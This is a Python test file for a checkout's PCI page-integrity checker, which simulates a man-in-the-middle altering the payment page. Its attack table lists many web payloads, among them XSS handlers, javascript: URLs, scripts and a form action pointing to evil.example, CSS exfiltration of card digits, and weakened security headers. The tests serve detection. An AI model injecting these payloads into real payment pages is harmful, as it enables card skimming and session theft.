"""Somebody between the server and the browser changes the page: each change is named."""

from __future__ import annotations

import re
import ssl
from collections.abc import Callable
from typing import Any, Final

import httpx
import msgspec
import pytest

from checkout.pci.browser import LARGEST
from checkout.pci.inventory import inventory, of_settings
from checkout.pci.verify import Unusable, verify
from checkout.web.widget import BUILD_FORM_PATHS, LATEST_PATHS
from tests.pci.conftest import Tamper, look
from tests.web.server import CHALLENGE, CreatedPayment, Server
from tests.web.settings import PUBLIC

EVIL: Final = "https://evil.example"


def again(answer: httpx.Response, content: bytes, **headers: str | None) -> httpx.Response:
    """The same answer with other contents and headers; None drops a header."""
    changed = {name.replace("_", "-"): value for name, value in headers.items()}
    kept = [
        (name, value)
        for name, value in answer.headers.multi_items()
        if name not in changed and name != "content-length"
    ]
    kept += [(name, value) for name, value in changed.items() if value is not None]
    return httpx.Response(answer.status_code, headers=kept, content=content, request=answer.request)


def is_page(answer: httpx.Response) -> bool:
    kind: str = answer.headers.get("content-type", "")
    return kind.startswith("text/html")


def page(pattern: str, new: str) -> Tamper:
    """In the page: what the pattern finds, replaced."""

    def tamper(answer: httpx.Response) -> httpx.Response:
        if not is_page(answer):
            return answer
        changed, count = re.subn(pattern, new, answer.text, count=1)
        assert count, f"nothing to change: {pattern}"
        return again(answer, changed.encode())

    return tamper


def body(html: str) -> Tamper:
    return page("</body>", f"{html}</body>".replace("\\", r"\\"))


def head(html: str) -> Tamper:
    return page("</head>", f"{html}</head>")


def header(name: str, change: Callable[[str], str | None]) -> Tamper:
    """In the page's headers."""

    def tamper(answer: httpx.Response) -> httpx.Response:
        if not is_page(answer):
            return answer
        said = change(answer.headers.get(name, ""))
        return again(answer, answer.content, **{name.replace("-", "_"): said})

    return tamper


def policy(old: str, new: str) -> Tamper:
    def change(said: str) -> str:
        assert old in said
        return said.replace(old, new)

    return header("content-security-policy", change)


def file(ending: str, change: Callable[[bytes], bytes], **headers: str | None) -> Tamper:
    def tamper(answer: httpx.Response) -> httpx.Response:
        if not answer.request.url.path.endswith(ending):
            return answer
        return again(answer, change(answer.content), **headers)

    return tamper


def with_nonce(html: str) -> Tamper:
    """Whoever can change the page can read its nonce."""

    def tamper(answer: httpx.Response) -> httpx.Response:
        found = re.search(r'nonce="([^"]+)"', answer.text) if is_page(answer) else None
        return body(html.replace("NONCE", found[1]))(answer) if found else answer

    return tamper


def twice(name: str, value: str) -> Tamper:
    def tamper(answer: httpx.Response) -> httpx.Response:
        if is_page(answer):
            answer.headers = httpx.Headers([*answer.headers.multi_items(), (name, value)])
        return answer

    return tamper


SVG: Final = '<svg xmlns="http://www.w3.org/2000/svg">{}</svg>'
# What is done -> the kind of change that must be named, and what its text must hold.
ATTACKS: Final[dict[str, tuple[Tamper, str, str]]] = {
    # Scripts
    "an inline script": (body("<script>alert(1)</script>"), "script", "alert(1)"),
    "one with the nonce": (with_nonce('<script nonce="NONCE">steal()</script>'), "script", "steal"),
    "one of others": (with_nonce(f'<script nonce="NONCE" src="{EVIL}/x.js"></script>'),
                      "origin", EVIL),
    "one of others without a scheme": (body('<script src="//evil.example/x"></script>'),
                                       "origin", "evil.example"),
    "one of others by backslashes": (body(r'<script src="/\evil.example/x"></script>'),
                                     "origin", "evil.example"),
    "another of ours": (body('<script src="/static/none.000000000000.js"></script>'),
                        "script", "none.0000"),
    "the same with a query": (page(r'(<script\s+src="[^"]+)"', r'\1?x"'), "script", "js?x"),
    "a script instead of ours": (page(r'<script\s+src="[^"]+"', f'<script src="{EVIL}/x.js"'),
                                 "origin", EVIL),
    "no script": (page("(?s)<script.*?</script>", ""), "script", "0 scripts"),
    "text in ours": (page("(<script[^>]+>)", r"\1alert(1)"), "script", "alert(1)"),
    "a byte of a script": (file(".js", lambda said: said + b" "), "hash", "payment."),
    "a byte of the style": (file(".css", lambda said: said[:-1] + b"\t"), "hash", "app."),
    "a script that is gone": (file(".js", lambda said: b""), "hash", "payment."),
    "a script of another type": (file(".js", bytes, content_type="text/plain"),
                                 "header", "text/plain"),
    "a script with a map": (file(".js", bytes, sourcemap=f"{EVIL}/x.map"), "header", "sourcemap"),
    "a script that may be guessed": (file(".js", bytes, x_content_type_options=None),
                                     "header", "x-content-type-options"),
    "no hash of the script": (page(r'(<script[^>]*?)\s+integrity="[^"]+"', r"\1"),
                              "integrity", "no hash"),
    "no hash of the style": (page(r'(<link rel="stylesheet".*?) integrity="[^"]+"', r"\1"),
                             "integrity", "no hash"),
    "another hash": (page(r'integrity="sha384-....', 'integrity="sha384-AAAA'),
                     "integrity", "sha384-AAAA"),
    # Handlers and addresses that run
    "an event handler": (page('<body', '<body onload="steal()"'), "script", "onload"),
    "one in capitals": (page('<main', '<main ONCLICK="steal()"'), "script", "ONCLICK"),
    "one without a value": (page('<main', '<main onclick'), "script", "onclick"),
    "an address that runs": (page(r'<a href="[^"]+"', '<a href="javascript:steal()"'),
                             "script", "javascript"),
    "one that is hidden": (page(r'<a href="[^"]+"', '<a href=" java&#9;script:steal()"'),
                           "script", "script:"),
    "one of a page's own": (page(r'<a href="[^"]+"', '<a href="data:text/html,x"'),
                            "script", "data:text"),
    # Elements that are never ours
    "a base": (head(f'<base href="{EVIL}/">'), "markup", "<base"),
    "a policy in the page": (head('<meta http-equiv="content-security-policy" content="x">'),
                             "policy", "content-security-policy"),
    "a refresh": (head(f'<meta http-equiv="refresh" content="0;url={EVIL}">'), "address", EVIL),
    "a preload": (head(f'<link rel="preload" as="script" href="{EVIL}/x.js">'), "origin", EVIL),
    "a module's preload": (head(f'<link rel="modulepreload" href="{EVIL}/x.js">'), "origin", EVIL),
    "a preload of ours": (head('<link rel="preload" as="script" href="/static/x.js">'),
                          "markup", "preload"),
    "an import": (head('<link rel="import" href="/x">'), "markup", "import"),
    "another stylesheet": (head(f'<link rel="stylesheet" href="{EVIL}/x.css">'), "origin", EVIL),
    "two stylesheets": (page(r'(<link rel="stylesheet"[^>]+>)', r"\1\1"), "style", "2 stylesheets"),
    "an SVG with a script": (body(SVG.format("<script>steal()</script>")), "script", "steal()"),
    "an SVG that calls a script": (body(SVG.format('<animate onbegin="steal()"/>')),
                                   "markup", "animate"),
    "an SVG that uses another": (body(SVG.format(f'<use href="{EVIL}/x.svg#a"/>')),
                                 "markup", "<use"),
    "an SVG with HTML": (body(SVG.format("<foreignObject><p>x</p></foreignObject>")),
                         "markup", "foreignObject"),
    "a frame": (body(f'<iframe src="{EVIL}"></iframe>'), "markup", "iframe"),
    "a frame with a text": (body('<iframe srcdoc="x"></iframe>'), "markup", "iframe"),
    "an object": (body(f'<object data="{EVIL}"></object>'), "markup", "object"),
    "a template": (body("<template><p>x</p></template>"), "markup", "template"),
    "an image of others": (body(f'<img src="{EVIL}/?4111" alt="">'), "origin", EVIL),
    "an image with handlers": (body('<img src="/static/x" alt="" onerror="steal()">'),
                               "script", "onerror"),
    "a set of images": (body(f'<img src="/static/x.png" srcset="{EVIL}/x 2x" alt="">'),
                        "markup", "srcset"),
    # Styles
    "a style that calls": (page(r"(<style[^>]+>)", rf"\1@import url({EVIL}/x.css);"),
                           "style", "@import"),
    "a style that tells": (page("</style>", f'input[value^="4"]{{background:url({EVIL})}}</style>'),
                           "style", "background:url"),
    "another style": (with_nonce(f'<style nonce="NONCE">a{{background:url({EVIL})}}</style>'),
                      "style", EVIL),
    "a style attribute": (page("<main", f'<main style="background:url({EVIL})"'),
                          "markup", "style="),
    # Forms
    "the form's action": (page(r'(<form\s+class="pay"[^>]+action=")[^"]+', rf"\1{EVIL}/pay"),
                          "form", EVIL),
    "no action": (page(r'(<form\s+class="pay"[^>]+action=")[^"]+', r"\1"), "form", 'action=""'),
    "another payment's": (page(r'(<form\s+class="pay"[^>]+action=")[^"]+', r"\1/en/payment/x/pay"),
                          "form", "/x/pay"),
    "a form around ours": (page("<form\n", '<form class="language" id="language"><form '),
                           "form", 'class="pay"'),
    "a button's own action": (page("<button", f'<button formaction="{EVIL}"'),
                              "markup", "formaction"),
    "a field of another form": (page("<input", '<input form="x"'), "markup", 'form="x"'),
    "a second form": (body(f'<form method="post" action="{EVIL}"></form>'), "form", EVIL),
    # What hides from readers
    "a comment": (body("<!-- x -->"), "markup", "<!--"),
    "a comment that ends early": (body("<!--><img src=x onerror=steal()>-->"), "markup", "<!-->"),
    "a tag that never ends": (body("<img src='x' alt='"), "markup", "<img src="),
    "no quotes": (body("<img src=x onerror=steal()>"), "markup", "onerror"),
    "a slash for a blank": (body("<svg/onload=steal()>"), "markup", "svg/onload"),
    "a sign in a text": (body("1 > 2"), "markup", "> 2"),
    "no doctype": (page("<!doctype html>", ""), "markup", "<html"),
    "letters that steer the terminal": (body("<x \x1b[2J>"), "markup", "?[2J"),
    # Headers
    "no policy": (header("content-security-policy", lambda said: None),
                  "policy", "Content-Security-Policy is missing"),
    "an empty policy": (header("content-security-policy", lambda said: ""),
                        "policy", "script-src is missing"),
    "scripts of others": (policy("script-src", f"script-src {EVIL}"),
                          "policy", f"script-src also allows {EVIL}"),
    "any inline script": (policy("script-src", "script-src 'unsafe-inline'"),
                          "policy", "'unsafe-inline'"),
    "a directive before ours": (policy("default-src 'none'", "script-src *; default-src 'none'"),
                                "policy", "script-src also allows *"),
    "one in other words": (policy("default-src 'none'; script-src", "default-src *; script-srx"),
                           "policy", "script-src is missing"),
    "scripts' elements": (policy("default-src", f"script-src-elem {EVIL}; default-src"),
                          "policy", "script-src-elem is not in our policy"),
    "calls elsewhere": (policy("connect-src 'self'", f"connect-src 'self' {EVIL}"),
                        "policy", f"connect-src also allows {EVIL}"),
    "forms elsewhere": (policy("form-action 'self'", "form-action https:"),
                        "policy", "form-action also allows https:"),
    "a base allowed": (policy("base-uri 'none'", "base-uri 'self'"), "policy", "base-uri"),
    "no Trusted Types": (policy("require-trusted-types-for 'script'; ", ""),
                         "policy", "require-trusted-types-for is missing"),
    "another type": (policy("trusted-types htmx", "trusted-types htmx default 'allow-duplicates'"),
                     "policy", "trusted-types also allows default"),
    "reports elsewhere": (header("reporting-endpoints", lambda said: f'csp="{EVIL}"'),
                          "header", EVIL),
    "reports to nobody": (policy("; report-to csp; report-uri /reports/csp", ""),
                          "policy", "report-to is missing"),
    "framed by anybody": (policy("frame-ancestors 'none'", "frame-ancestors *"),
                          "policy", "frame-ancestors also allows *"),
    "framed by others": (policy("frame-ancestors 'none'", f"frame-ancestors {EVIL}"),
                         "policy", f"frame-ancestors also allows {EVIL}"),
    "framed by a shop and others": (
        policy("frame-ancestors 'none'", f"frame-ancestors https://framing.example.com {EVIL}"),
        "policy", f"frame-ancestors also allows {EVIL}"),
    "two policies": (twice("content-security-policy", "script-src *"), "policy", "another"),
    "a policy that only reports": (twice("content-security-policy-report-only", "script-src *"),
                                   "header", "report-only"),
    "a preload by header": (twice("link", f"<{EVIL}/x.js>; rel=preload; as=script"),
                            "header", "link is not ours"),
    "a refresh by header": (twice("refresh", f"0;url={EVIL}"), "header", "refresh"),
    "rules of prefetching": (twice("speculation-rules", f'"{EVIL}/r.json"'),
                             "header", "speculation-rules"),
    "read by all": (twice("access-control-allow-origin", "*"), "header", "access-control"),
    "no HSTS": (header("strict-transport-security", lambda said: None),
                "header", "strict-transport-security is missing"),
    "a short HSTS": (header("strict-transport-security", lambda said: "max-age=0"),
                     "header", "max-age=0"),
    "a type to be guessed": (header("x-content-type-options", lambda said: None),
                             "header", "x-content-type-options is missing"),
    "whole addresses to others": (header("referrer-policy", lambda said: "unsafe-url"),
                                  "header", "unsafe-url"),
    "another type of page": (header("content-type", lambda said: "text/html; charset=utf-7"),
                             "header", "utf-7"),
    "a page that is kept": (header("cache-control", lambda said: "public"), "header", "public"),
    "a cookie for scripts": (
        header("set-cookie", lambda said: said.replace("HttpOnly; ", "")),
        "header", "the cookie is not httponly"),
}  # fmt: skip


def told(verdict: Any) -> str:
    return "\n".join(f"{change.kind}: {change.text}" for change in verdict.changes)


@pytest.fixture(scope="module")
def kept() -> list[CreatedPayment]:
    return []


async def payment(server: Server, kept: list[CreatedPayment]) -> CreatedPayment:
    """One for all: nothing here moves it."""
    if not kept:
        kept.append(await server.create())
    return kept[0]


@pytest.mark.parametrize(("tamper", "kind", "said"), ATTACKS.values(), ids=ATTACKS)
async def test_each_change_is_named(
    server: Server, kept: list[CreatedPayment], tamper: Tamper, kind: str, said: str
) -> None:
    made = await payment(server, kept)
    verdict, _ = await look(server, made.path(), tamper)
    assert not verdict.same
    assert verdict.page == "payment"
    found = [change for change in verdict.changes if change.kind == kind and said in change.text]
    assert found, told(verdict)
    assert "\x1b" not in told(verdict)


async def test_a_nonce_that_stays(server: Server, kept: list[CreatedPayment]) -> None:
    """A cache in between, with the page of somebody else."""
    made, first = await payment(server, kept), []

    def tamper(answer: httpx.Response) -> httpx.Response:
        if is_page(answer):
            first.append(answer)
            return again(first[0], first[0].content)
        return answer

    verdict, _ = await look(server, made.path(), tamper)
    assert told(verdict) == "nonce: the nonce of the policy is the same twice"


async def test_another_site(server: Server, kept: list[CreatedPayment]) -> None:
    made = await payment(server, kept)

    def away(answer: httpx.Response) -> httpx.Response:
        return httpx.Response(302, headers={"location": f"{EVIL}/pay"}, request=answer.request)

    verdict, proxy = await look(server, made.path(), away)
    assert told(verdict) == f"address: sends the browser to {EVIL}"
    assert len(proxy.asked) == 1, "another site is not asked"


async def test_a_page_without_tls(server: Server, kept: list[CreatedPayment]) -> None:
    made = await payment(server, kept)
    for host, said in (("pay.example.com", True), ("127.0.0.1:8001", False)):
        url = f"http://{host}{made.path()}"
        verdict, _ = await look(server, url, wanted=inventory(f"http://{host}", sandbox=True))
        changes = [change.text for change in verdict.changes if change.kind == "certificate"]
        assert changes == (["the page comes without TLS"] if said else [])


async def test_without_the_settings_who_may_frame_is_not_known(
    server: Server, kept: list[CreatedPayment]
) -> None:
    made = await payment(server, kept)
    tamper, _, _ = ATTACKS["framed by others"]
    verdict, _ = await look(server, made.path(), tamper, wanted=inventory(PUBLIC, sandbox=True))
    assert verdict.same
    tamper, _, _ = ATTACKS["framed by anybody"]
    verdict, _ = await look(server, made.path(), tamper, wanted=inventory(PUBLIC, sandbox=True))
    assert told(verdict) == "policy: frame-ancestors also allows *"


# --- Nothing was changed -----------------------------------------------------------------------


async def payments(server: Server) -> dict[str, str]:
    """A path of each type of page, but errors."""
    opened, paid = await server.create(), await server.create()
    bank, form, waits = [await server.create() for _ in range(3)]
    async with server.customer() as customer:
        await customer.pay(paid)
        await customer.pay(bank, CHALLENGE)
        page = await customer.open(form.path())
        await customer.submit(page.form("pay"), method="sbp")
        server.line.broken.append(httpx.ReadTimeout("slow"))
        await customer.pay(waits)
        product = await customer.post("/products", json=PRODUCT, headers=server.basic())
    assert product.status_code == 201, product.text
    return {
        "payment": opened.path(),
        "redirect": bank.path("redirect"),
        "redirect by a form": form.path("redirect"),
        "wait": waits.path("wait"),
        "status": waits.path("status"),
        "result": paid.path("result"),
        "order": paid.path(kind="order"),
        "product": f"/product/{product.json()['id']}",
        "product in a language": f"/de/product/{product.json()['id']}",
    }


PRODUCT: Final = {
    "name": "Tea", "description": "Green", "amount": 500, "currency": "EUR", "infinite": True,
    "quantity": None,
}  # fmt: skip


async def test_every_page_is_as_it_should_be(server: Server) -> None:
    for name, path in (await payments(server)).items():
        for framed in (False, True):
            verdict, proxy = await look(server, path, framed=framed)
            assert told(verdict) == "", name
            assert verdict.page == name.split()[0]
            assert verdict.files == (0 if verdict.page == "status" else 2)
            assert {request.method for request in proxy.asked} == {"GET"}
    verdict, _ = await look(server, "/nowhere", expected="error")
    assert (verdict.page, told(verdict), verdict.files) == ("error", "", 1)
    for path in (*LATEST_PATHS, *BUILD_FORM_PATHS, "/widget-0.1.0.js"):
        verdict, _ = await look(server, path)
        assert (verdict.page, told(verdict), verdict.files) == ("widget", "", 1)
        verdict, _ = await look(server, path, file(".js", lambda said: said + b" "))
        assert [change.kind for change in verdict.changes] == ["hash"]


async def test_what_the_waiting_page_fetches(server: Server) -> None:
    waits = await server.create()
    async with server.customer() as customer:
        server.line.broken.append(httpx.ReadTimeout("slow"))
        await customer.pay(waits)
    for old, new, said in (
        ('hx-get="[^"]+"', f'hx-get="{EVIL}/x"', "origin: asks elsewhere"),
        ('hx-get="[^"]+"', 'hx-get="/static/x"', "origin: asks elsewhere"),
        ('hx-nonce="[^"]+"', 'hx-nonce="x"', "nonce: not the nonce"),
        ("hx-get", "hx-on:load", "markup: the page has an attribute"),
        ('"history": false', '"history":true', "policy: the page has a meta element"),
    ):
        for path in (waits.path("wait"), waits.path("status")):
            if path.endswith("status") and "meta" in said:
                continue
            verdict, _ = await look(server, path, page(old, new))
            assert said.replace("the page has ", "") in told(verdict).replace("the page has ", "")


async def test_in_a_shops_frame_and_in_its_colours(server: Server) -> None:
    made = await server.create(
        shop="framing",
        settings={"return_url": None, "style": {"button": {"backgroundColor": "#ffd400"}}},
    )
    for path in (made.path(), f"/widget/hpp.html?token={made.token}"):
        verdict, _ = await look(server, path, framed=True)
        assert (verdict.page, told(verdict)) == ("payment", "")


async def test_the_payment_does_not_move(server: Server) -> None:
    made = await server.create()
    before = made.books()
    for expected in ("payment", None):
        verdict, proxy = await look(server, made.path(), expected=expected)
        assert verdict.same
        assert {request.method for request in proxy.asked} == {"GET"}
    assert made.books() == before


async def test_what_comes_is_not_what_must(server: Server) -> None:
    made = await server.create()
    async with server.customer() as customer:
        await customer.pay(made)
    verdict, _ = await look(server, made.path(), expected="payment")
    assert verdict.page == "result"
    assert told(verdict) == "address: the address shows result instead of payment"


async def test_compared_with_what_was_authorised_before(
    server: Server, kept: list[CreatedPayment]
) -> None:
    """A new version is a change, until somebody has authorised its inventory."""
    made, whole = await payment(server, kept), of_settings(server.settings)
    script = whole.page("payment").scripts[0]
    old = msgspec.structs.replace(script, path="/static/payment.000000000000.js")
    replace = msgspec.structs.replace
    pages = tuple(
        replace(each, scripts=(old,)) if each.name == "payment" else each for each in whole.pages
    )
    verdict, _ = await look(server, made.path(), wanted=replace(whole, pages=pages))
    assert [change.kind for change in verdict.changes] == ["script"]


# --- What can't be looked at --------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    ["", "pay.example.com", "ftp://pay.example.com/", "file:///etc/passwd", "https://",
     "https://user:password@pay.example.com/", "javascript:alert(1)"],
    ids=lambda url: url or "nothing",
)  # fmt: skip
def test_no_address(url: str) -> None:
    with pytest.raises(Unusable):
        verify(url, inventory(PUBLIC))


@pytest.mark.parametrize("path", ["/nowhere", "/en/payment/x/y", "/health/live", "/pay/x"])
async def test_no_page(server: Server, path: str) -> None:
    with pytest.raises(Unusable):
        await look(server, path)


async def test_no_answer(server: Server) -> None:
    def gone(answer: httpx.Response) -> httpx.Response:
        raise httpx.ConnectError("refused")

    def endless(answer: httpx.Response) -> httpx.Response:
        return again(answer, b"x" * (LARGEST + 1))

    for tamper in (gone, endless):
        with pytest.raises(Unusable):
            await look(server, "/en/payment/x/y", tamper)


async def test_a_certificate_of_somebody_else(server: Server) -> None:
    def other(answer: httpx.Response) -> httpx.Response:
        try:
            raise ssl.SSLCertVerificationError("certificate verify failed: self-signed")
        except ssl.SSLError as error:
            raise httpx.ConnectError("no TLS") from error

    verdict, _ = await look(server, "/en/payment/x/y", other)
    assert [change.kind for change in verdict.changes] == ["certificate"]
